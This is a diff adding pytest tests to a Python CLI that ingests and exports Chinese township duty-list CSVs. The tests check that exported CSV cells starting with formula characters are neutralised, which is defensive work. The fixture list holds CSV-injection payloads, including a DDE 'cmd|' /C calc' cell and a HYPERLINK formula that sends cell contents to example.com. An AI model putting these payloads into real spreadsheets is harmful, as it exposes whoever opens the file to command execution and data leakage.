@@ -183,3 +183,84 @@ def test_a_copy_of_lvzhi_outside_its_checkout_ignores_the_plugins_folder_beside_
                             check=True)
     assert result.stdout.startswith(str(site / "explorer"))
     assert not marker.exists() and "'csv'" not in result.stdout
+
+
+# --- shared: a document whose text is hostile ------------------------------------------------
+
+def write_hostile_list(path: Path, names: list[str], township: str = "托格拉克乡",
+                       county: str = "伊宁市") -> Path:
+    """A CSV duty list (the example plugin's format) whose basic items are ``names``."""
+    import csv
+    import io
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow([f"伊犁州{county}{township}基本履职事项清单"])
+    writer.writerow(["序号", "事项类别", "事项名称"])
+    writer.writerows([n, "党的建设", name] for n, name in enumerate(names, 1))
+    writer.writerow([f"伊犁州{county}{township}上级部门收回事项清单"])
+    writer.writerow(["序号", "事项类别", "事项名称", "承接部门及工作方式"])
+    writer.writerow([1, "民生服务", "工伤认定调查", "市人社局"])
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    return path
+
+
+# --- 3. spreadsheet formulas -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.com/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1,2)"]
+
+
+@pytest.fixture
+def formula_store(run_cli, tmp_path: Path):
+    document = write_hostile_list(tmp_path / "f.csv", [*FORMULAS, "普通事项"])
+    code, _, err = run_cli("ingest", "-q", str(document))
+    assert code == 0, err
+    return run_cli
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+
+
+def test_csv_export_neutralises_formulas_and_raw_cells_keeps_them(formula_store,
+                                                                   tmp_path: Path):
+    target = tmp_path / "out.csv"
+    assert formula_store("export", "--format", "csv", "-o", str(target))[0] == 0
+    names = [r["name"] for r in _csv_rows(target) if r["list"] == "basic"]
+    assert names == ["'" + f for f in FORMULAS] + ["普通事项"]
+    assert formula_store("export", "--format", "csv", "--raw-cells", "-o", str(target))[0] == 0
+    assert [r["name"] for r in _csv_rows(target) if r["list"] == "basic"] == [
+        *FORMULAS, "普通事项"]
+
+
+def test_cells_starting_with_tab_or_cr_are_neutralised_too(items: list[Item]):
+    from explorer.cli import export_items
+
+    items[0].name, items[1].departments = "\t=1+1", "\r@SUM(1,2)"
+    text = export_items(items, "csv").decode("utf-8-sig")
+    assert "'\t=1+1" in text and "'\r@SUM(1,2)" in text
+
+
+def test_json_exports_stay_exact(formula_store):
+    import json
+
+    code, out, _ = formula_store("export", "--format", "jsonl")
+    names = [json.loads(line)["name"] for line in out.splitlines()]
+    assert code == 0 and set(FORMULAS) <= set(names)
+
+
+def test_coverage_csv_neutralises_formulas(run_cli, tmp_path: Path):
+    a = write_hostile_list(tmp_path / "a.csv", ["=1+1事项"])
+    b = write_hostile_list(tmp_path / "b.csv", ["=1+1事项"], township="@昭苏镇",
+                           county="昭苏县")
+    assert run_cli("ingest", "-q", str(a), str(b))[0] == 0
+    target = tmp_path / "grid.csv"
+    assert run_cli("coverage", "--csv", str(target))[0] == 0
+    text = target.read_text(encoding="utf-8-sig")
+    assert "'=1+1事项" in text and "\n=" not in text and ",=" not in text
+    assert run_cli("coverage", "--csv", str(target), "--raw-cells")[0] == 0
+    assert ",=1+1事项" in target.read_text(encoding="utf-8-sig")
